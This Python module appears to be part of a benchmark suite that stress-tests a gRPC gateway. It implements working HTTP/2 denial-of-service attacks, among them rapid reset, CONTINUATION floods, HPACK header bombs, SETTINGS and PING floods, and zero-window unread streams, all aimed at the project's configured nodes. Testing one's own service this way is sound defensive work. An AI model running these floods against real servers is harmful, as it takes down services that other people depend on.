"""Attacks with HTTP/2 frames, most of which gRPC's own client would never send."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import Awaitable, Callable

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from bench.attacks.attack import Attack, KeyPair, Tally, Target, at_once
from bench.attacks.http2 import (
    INITIAL_WINDOW,
    MAX_STREAMS,
    HostileConnection,
    RefusedError,
    connection,
    header_block,
    message,
)
from gateway.trust.service.trial_federation import FEDERATION
from gateway.v1.alert_service_pb2 import ListAlertsRequest
from gateway.v1.exchange_service_pb2 import FetchOpening, FetchRequest

PATH = "/gateway.v1.ExchangeService/GetCheckpoint"

STREAMS = 1_024
"""Streams that an attacker opens on one connection; a node may refuse those above its own limit."""

BURST = 500
"""Frames in one write."""

_AGAIN_S = 0.05
_CANCEL = 8


async def header_bomb(target: Target, size: int, tally: Tally) -> None:
    """`size` connections, on each STREAMS calls that never end, each with as many tiny headers as fit into 8 kB."""
    await _on_each(target, size, tally, lambda made: _bomb(made, 8_000, tally))


async def early_header_bomb(target: Target, size: int, tally: Tally) -> None:
    """The same with a million bytes of headers each, on connections that never acknowledge the node's settings."""
    await _on_each(target, size, tally, lambda made: _bomb(made, 1_000_000, tally), acknowledge=False)


async def continuation_flood(target: Target, size: int, tally: Tally) -> None:
    """`size` connections, on each one header block that goes on and on."""

    async def flood(made: HostileConnection) -> None:
        block = b"\x00\x01a\x01b" * 3_200  # literal headers, without indexing
        stream = made.new_stream()
        await made.send(HeadersFrame(stream, made.block(PATH), flags=[]))
        part = ContinuationFrame(stream, block).serialize()
        while True:
            await made.send(part)
            tally["frames"] += 1
            tally["bytes"] += len(part)

    await _on_each(target, size, tally, flood)


async def settings_flood(target: Target, size: int, tally: Tally) -> None:
    """`size` connections, each with SETTINGS one after the other; each asks for an answer."""
    await _burst_of(target, size, tally, lambda _: SettingsFrame(0, {INITIAL_WINDOW: 65_535}).serialize() * BURST)


async def ping_flood(target: Target, size: int, tally: Tally) -> None:
    """`size` connections, each with PING one after the other."""
    await _burst_of(target, size, tally, lambda _: PingFrame(0, b"flooding").serialize() * BURST)


async def priority_flood(target: Target, size: int, tally: Tally) -> None:
    """`size` connections, each with PRIORITY for streams that don't exist."""

    def burst(_: HostileConnection) -> bytes:
        return b"".join(PriorityFrame(2 * n + 1, 0, 15).serialize() for n in range(BURST))

    await _burst_of(target, size, tally, burst)


async def window_flood(target: Target, size: int, tally: Tally) -> None:
    """`size` connections, each with WINDOW_UPDATE by one byte, one after the other."""
    await _burst_of(target, size, tally, lambda _: WindowUpdateFrame(0, 1).serialize() * BURST)


async def empty_data(target: Target, size: int, tally: Tally) -> None:
    """`size` connections, each with empty DATA frames on one call, one after the other."""

    async def flood(made: HostileConnection) -> None:
        await made.send(call := made.call(PATH))
        burst = DataFrame(call.stream_id, b"").serialize() * BURST
        while not made.resets:
            await made.send(burst)
            tally["frames"] += BURST

    await _on_each(target, size, tally, flood)


async def rapid_reset(target: Target, size: int, tally: Tally) -> None:
    """`size` connections, each opening and resetting calls as fast as it can."""

    async def reset(made: HostileConnection) -> None:
        while True:
            burst = []
            for _ in range(BURST):
                burst += [call := made.call(PATH), RstStreamFrame(call.stream_id, _CANCEL)]
            await made.send(*burst)
            tally["calls"] += BURST

    await _on_each(target, size, tally, reset)


async def half_open(target: Target, size: int, tally: Tally) -> None:
    """`size` connections, on each STREAMS calls with headers and no request."""

    async def open_all(made: HostileConnection) -> None:
        for _ in range(STREAMS):
            await made.send(made.call(PATH))
            tally["streams"] += 1
        await made.ended.wait()

    await _on_each(target, size, tally, open_all)


async def unfinished_messages(target: Target, size: int, tally: Tally) -> None:
    """`size` connections, on each as many calls as the node takes, each with 5 MB of a message that lacks a byte."""

    async def send_all(made: HostileConnection) -> None:
        await made.greeted.wait()
        content = message(bytes(5 * 1024 * 1024 - 8))[:-1]
        calls = [made.call(PATH) for _ in range(min(made.settings.get(MAX_STREAMS, STREAMS), STREAMS))]
        await made.send(*calls)
        tally["streams"] += len(calls)
        await asyncio.gather(*(send_one(made, call.stream_id, content) for call in calls))
        await made.ended.wait()

    async def send_one(made: HostileConnection, stream: int, content: bytes) -> None:
        for start in range(0, len(content), 65_536):
            await made.send_content(stream, content[start : start + 65_536])
            tally["bytes"] += 65_536

    await _on_each(target, size, tally, send_all)


async def unread_pages(target: Target, size: int, tally: Tally) -> None:
    """`size` connections of an own system, on each as many calls for the largest page as the node takes; no answer is
    ever taken."""
    page = ListAlertsRequest(page_size=1_000).SerializeToString()
    await _unread(target, size, tally, target.local_port, target.system, "/gateway.v1.AlertService/ListAlerts", page)


async def unread_feeds(target: Target, size: int, tally: Tally) -> None:
    """`size` connections of a partner, on each as many fetches of its feed as the node takes; nothing is taken."""
    partner = target.partner.certificate.parents[1].name
    origin = f"{FEDERATION}/{target.node}/{partner}/alerts"
    opening = FetchRequest(open=FetchOpening(origin=origin, until_current=True)).SerializeToString()
    await _unread(target, size, tally, target.peer_port, target.partner, "/gateway.v1.ExchangeService/Fetch", opening)


async def _unread(target: Target, size: int, tally: Tally, port: int, pair: KeyPair, path: str, request: bytes) -> None:
    async def ask(made: HostileConnection) -> None:
        await made.greeted.wait()
        for _ in range(min(made.settings.get(MAX_STREAMS, STREAMS), STREAMS)):
            await made.send(call := made.call(path), DataFrame(call.stream_id, message(request), flags=["END_STREAM"]))
            tally["calls"] += 1
        await made.ended.wait()

    await _on_each(target, size, tally, ask, port=port, pair=pair, settings={INITIAL_WINDOW: 0})


async def goaway(target: Target, size: int, tally: Tally) -> None:
    """`size` connections that open a call, say GOAWAY and stay, again and again."""

    async def leave(made: HostileConnection) -> None:
        await made.send(made.call(PATH), GoAwayFrame(0, 0))
        tally["goaways"] += 1
        async with asyncio.timeout(1.0):
            await made.ended.wait()

    await _on_each(target, size, tally, leave)


async def _bomb(made: HostileConnection, listed: int, tally: Tally) -> None:
    """Opens STREAMS calls whose headers have so many bytes as HTTP/2 counts them, each header one byte on the wire."""
    await made.greeted.wait()
    tiny = ("a", "b")  # 34 bytes as HTTP/2 counts
    await made.send(made.call(PATH, [tiny], ["END_HEADERS", "END_STREAM"]))  # puts it into the connection's table
    block = made.block(PATH, [tiny] * ((listed - 600) // 34))
    for _ in range(STREAMS):
        await made.send(frames := header_block(made.new_stream(), block))
        tally["calls"] += 1
        tally["bytes"] += len(frames)
    await made.ended.wait()


async def _burst_of(target: Target, size: int, tally: Tally, burst: Callable[[HostileConnection], bytes]) -> None:
    async def flood(made: HostileConnection) -> None:
        frames = burst(made)
        while True:
            await made.send(frames)
            tally["frames"] += BURST

    await _on_each(target, size, tally, flood)


async def _on_each(
    target: Target,
    size: int,
    tally: Tally,
    attack: Callable[[HostileConnection], Awaitable[None]],
    *,
    port: int = 0,
    pair: KeyPair | None = None,
    settings: dict[int, int] | None = None,
    acknowledge: bool = True,
) -> None:
    """Attacks on `size` connections, opened again when they end; at the peer port, as a partner, unless told else."""

    async def once() -> None:
        with contextlib.suppress(OSError, RefusedError, TimeoutError):
            async with connection(
                target, port or target.peer_port, pair or target.partner, settings=settings, acknowledge=acknowledge
            ) as made:
                tally["connected"] += 1
                try:
                    await attack(made)
                finally:
                    tally["ended by the node"] += made.ended.is_set()
                    tally.update({f"reset with {code}": count for code, count in made.resets.items()})
        await asyncio.sleep(_AGAIN_S)

    await at_once(size, once)


ATTACKS = (
    Attack(name="header-bomb", summary="calls full of tiny headers, never ended", run=header_bomb, size=16, small=1),
    Attack(
        name="early-headers",
        summary="a million bytes of headers, before settings apply",
        run=early_header_bomb,
        size=4,
        small=3,
        memory_mb=700,
    ),
    Attack(name="continuation", summary="a header block without an end", run=continuation_flood, size=2, small=1),
    Attack(name="settings", summary="SETTINGS one after the other", run=settings_flood, size=2, small=1),
    Attack(name="pings", summary="PING one after the other", run=ping_flood, size=2, small=1),
    Attack(name="priorities", summary="PRIORITY one after the other", run=priority_flood, size=2, small=1),
    Attack(name="windows", summary="WINDOW_UPDATE by one byte", run=window_flood, size=2, small=1),
    Attack(name="empty-data", summary="DATA without data", run=empty_data, size=2, small=1),
    Attack(name="rapid-reset", summary="calls opened and reset", run=rapid_reset, size=2, small=1),
    Attack(name="half-open", summary="calls without a request", run=half_open, size=16, small=1),
    Attack(name="unfinished", summary="messages without an end", run=unfinished_messages, size=16, small=1),
    Attack(name="unread-pages", summary="pages that nobody takes", run=unread_pages, size=4, small=1),
    Attack(name="unread-feeds", summary="feeds that nobody takes", run=unread_feeds, size=4, small=1),
    Attack(name="goaway", summary="GOAWAY, and again", run=goaway, size=16, small=2),
)
